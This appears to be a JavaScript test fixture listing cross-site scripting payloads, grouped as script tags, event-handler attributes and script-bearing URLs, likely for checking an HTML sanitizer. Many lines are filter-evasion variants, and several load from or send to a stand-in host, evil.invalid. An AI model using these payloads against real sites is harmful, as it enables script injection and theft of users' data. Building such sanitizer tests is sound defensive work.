// Texts that would run a script, or load or send something, wherever they got into a page as markup.
// Each would call alert or set window.__pwned. ✱ stands for the script, so that each is told apart.

const TAGS = String.raw`
<script>✱</script>
<ScRiPt>✱</sCrIpT>
<script >✱</script >
<script/x>✱</script>
<script type="text/javascript">✱</script>
<script type=module>✱</script>
<script src="data:text/javascript,✱"></script>
<script src="data:,✱"></script>
<script src="//evil.invalid/x.js"></script>
<script src=https://evil.invalid/x.js defer></script>
<script xlink:href="data:,✱"></script>
<scr<script>ipt>✱</scr</script>ipt>
<<script>✱//<</script>
<script>✱
<script>/*</script><script>*/✱</script>
<script
>✱</script
>
"><script>✱</script>
'><script>✱</script>
</title><script>✱</script>
</textarea><script>✱</script>
</style><script>✱</script>
</script><script>✱</script>
</noscript><script>✱</script>
</pre></code><script>✱</script>
</template><script>✱</script>
<svg><script>✱</script></svg>
<svg><script href="data:,✱"/></svg>
<svg><script xlink:href="data:,✱"/></svg>
<math><script>✱</script></math>`;

const HANDLERS = String.raw`
<img src=x onerror=✱>
<img src=x onerror="✱">
<img src=x onerror='✱'>
<img src=x oNeRrOr=✱>
<img src=x/onerror=✱>
<img/src=x/onerror=✱>
<img src=x onerror =✱>
<img src=x onerror&#61;✱>
<img src="x" onerror="&#119;indow.__pwned=1;✱">
<img src=/no-such-file onerror=✱ loading=eager>
<img srcset=x onerror=✱>
<img src=/assets/icon.svg onload=✱>
<img src=x:✱ onerror=eval(src)>
<img """><script>✱</script>">
<image src=x onerror=✱>
<picture><source srcset=x><img onerror=✱ src=x></picture>
<body onload=✱>
<body onpageshow=✱>
<body onhashchange=✱><a href=#x>x</a>
<html onmouseover=✱>
<svg onload=✱>
<svg/onload=✱>
<svg onload=✱//
<svg><g onload=✱></g></svg>
<input autofocus onfocus=✱>
<select autofocus onfocus=✱>
<textarea autofocus onfocus=✱></textarea>
<button autofocus onfocus=✱>x</button>
<keygen autofocus onfocus=✱>
<a autofocus onfocus=✱ href=#>x</a>
<div tabindex=0 autofocus onfocus=✱>x</div>
<div contenteditable autofocus onfocus=✱>x</div>
<div onmouseover=✱ style=position:fixed;inset:0>x</div>
<div onpointerenter=✱>x</div>
<div onclick=✱>x</div>
<div style="animation:x 1s" onanimationstart=✱>x</div>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=✱>x</p>
<p style="transition:color 1s" ontransitionend=✱>x</p>
<details open ontoggle=✱>x</details>
<dialog open onclose=✱><form method=dialog><button>x</button></form></dialog>
<audio src=x onerror=✱>
<audio src onloadstart=✱>
<video src=x onerror=✱></video>
<video><source onerror=✱></video>
<video poster=x onloadstart=✱ src=x></video>
<track default src=x onerror=✱>
<marquee onstart=✱>x</marquee>
<object data=x onerror=✱></object>
<embed src=x onerror=✱>
<iframe src=/ onload=✱></iframe>
<frameset onload=✱><frame src=/></frameset>
<link rel=stylesheet href=x onerror=✱>
<link rel=stylesheet href=/assets/cairn.css onload=✱>
<style onload=✱></style>
<style onerror=✱>@import "x"</style>
<script src=x onerror=✱></script>
<input type=image src=x onerror=✱>
<meter onmouseover=✱>x</meter>
<x oncontentvisibilityautostatechange=✱ style=display:block;content-visibility:auto>x</x>
<x onbeforematch=✱ hidden=until-found>x</x>
<p onbeforecopy=✱ contenteditable>x</p>
<ruby oncopy=✱>x</ruby>`;

const ADDRESSES = String.raw`
<a href="javascript:✱">x</a>
<a href="JaVaScRiPt:✱">x</a>
<a href=" javascript:✱">x</a>
<a href="java	script:✱">x</a>
<a href="jav&#x09;ascript:✱">x</a>
<a href="jav&#x0A;ascript:✱">x</a>
<a href="jav&#x0D;ascript:✱">x</a>
<a href="&#1;javascript:✱">x</a>
<a href="&#x6A;avascript:✱">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097script:✱">x</a>
<a href="javascript&colon;✱">x</a>
<a href="javascript&#58;✱">x</a>
<a href="java&Tab;script:✱">x</a>
<a href="java&NewLine;script:✱">x</a>
<a href="javascript:%61lert(1);✱">x</a>
<a href="javascript://%0a✱">x</a>
<a href="javascript://evil.invalid/%0d✱">x</a>
<a href=javascript:✱ target=_blank>x</a>
<a href=vbscript:✱>x</a>
<a href="VBScript:msgbox(1);✱">x</a>
<a href="data:text/html,<script>✱</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x ✱</a>
<a href="data:image/svg+xml,<svg onload=✱ xmlns='http://www.w3.org/2000/svg'/>">x</a>
<a href="livescript:✱">x</a>
<a href="feed:javascript:✱">x</a>
<a href="view-source:javascript:✱">x</a>
<a href="blob:https://evil.invalid/✱">x</a>
<a href="filesystem:✱">x</a>
<a href="file:///etc/passwd?✱">x</a>
<a href="intent://x#Intent;scheme=javascript;✱">x</a>
<area href="javascript:✱" shape=default>
<map name=m><area href=javascript:✱></map><img usemap=#m src=x>
<form action="javascript:✱"><button>x</button></form>
<form><button formaction="javascript:✱">x</button></form>
<form id=f></form><button form=f formaction=javascript:✱>x</button>
<form action=//evil.invalid/><input name=q value="✱"></form>
<isindex action=javascript:✱ type=image>
<base href="javascript:✱//">
<base href="https://evil.invalid/✱/">
<base target=_parent><a href="javascript:✱">x</a>
<meta http-equiv=refresh content="0;url=javascript:✱">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>✱</script>">
<meta http-equiv=refresh content="0;url=//evil.invalid/?✱">
<meta http-equiv=set-cookie content="x=✱">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>✱</script>
<link rel=import href="data:text/html,<script>✱</script>">
<link rel=prefetch href="//evil.invalid/✱">
<link rel=modulepreload href="data:text/javascript,✱">
<iframe src="javascript:✱"></iframe>
<iframe srcdoc="<script>✱</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=✱&gt;"></iframe>
<iframe src="data:text/html,<script>✱</script>"></iframe>
<object data="javascript:✱"></object>
<object data="data:text/html,<script>✱</script>"></object>
<object classid=clsid:x><param name=url value=javascript:✱></object>
<applet code="javascript:✱"></applet>
<embed src="javascript:✱">
<embed src="data:image/svg+xml,<svg onload=✱ xmlns='http://www.w3.org/2000/svg'/>">
<img src="javascript:✱">
<img dynsrc="javascript:✱">
<img lowsrc="javascript:✱">
<input type=image src="javascript:✱">
<body background="javascript:✱">
<table background="javascript:✱"><td background="javascript:✱">x</table>
<bgsound src="javascript:✱">
<video poster="javascript:✱"></video>
<blockquote cite="javascript:✱">x</blockquote>
<q cite="javascript:✱">x</q>
<a ping="javascript:✱" href=#>x</a>
<html manifest="javascript:✱">`;

export const TAG_LINES = { TAGS, HANDLERS, ADDRESSES };
